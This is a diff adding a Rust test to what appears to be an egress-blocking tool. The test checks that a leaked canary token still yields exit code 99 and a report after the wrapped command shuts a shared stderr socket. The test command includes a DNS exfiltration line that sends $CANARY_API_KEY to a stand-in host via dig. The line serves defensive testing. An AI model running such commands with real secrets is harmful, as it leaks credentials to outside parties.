@@ -179,3 +179,49 @@ set +e
     );
     assert_eq!(out.status.code(), Some(99), "{shown}");
 }
+
+/// exec's stderr may be a socket (a systemd unit's, whose stderr is a stream to journald;
+/// inetd's), and CMD shares it: `shutdown(2, SHUT_WR)` in CMD shuts it for exec too. exec's
+/// summary at exit was printed with `eprintln!`, which panics when the write fails: exec
+/// died with 101 (a code it documents nowhere) before writing `--report`, so a token CMD
+/// leaked as a DNS name (the guard refused it: the canary tripped) showed neither as exit
+/// 99 nor in the report.
+#[test]
+fn cmd_shutting_a_shared_stderr_socket_does_not_hide_a_tripped_canary() {
+    use std::io::Read;
+    use std::os::unix::net::UnixStream;
+    let w = World::new();
+    let policy = setup(&w);
+    let report = w.dir().join("report.json");
+    let (ours, theirs) = UnixStream::pair().expect("a socket pair");
+    let reader = std::thread::spawn(move || {
+        let mut text = String::new();
+        let _ = (&ours).read_to_string(&mut text);
+        text
+    });
+    let out = exec_command(
+        &w,
+        &policy,
+        &[
+            "--user",
+            "nobody",
+            "--canary",
+            "--report",
+            report.to_str().expect("utf-8 path"),
+        ],
+        "python3 -c 'import socket; socket.socket(fileno=2).shutdown(socket.SHUT_WR)'; \
+         dig +time=1 +tries=1 \"$CANARY_API_KEY.exfil.test\" >/dev/null; echo asked; exit 0",
+    )
+    .stderr(std::process::Stdio::from(std::os::fd::OwnedFd::from(theirs)))
+    .output()
+    .expect("run egress-fence exec");
+    let stderr = reader.join().expect("the stderr reader");
+    let shown = format!("{}\n--- stderr socket ---\n{stderr}", show(&out));
+    assert!(stdout_of(&out).contains("asked"), "{shown}");
+    let written = std::fs::read_to_string(&report).unwrap_or_default();
+    assert!(
+        written.contains("\"canary_tripped\": true"),
+        "report: {written:?}\n{shown}"
+    );
+    assert_eq!(out.status.code(), Some(99), "{shown}");
+}
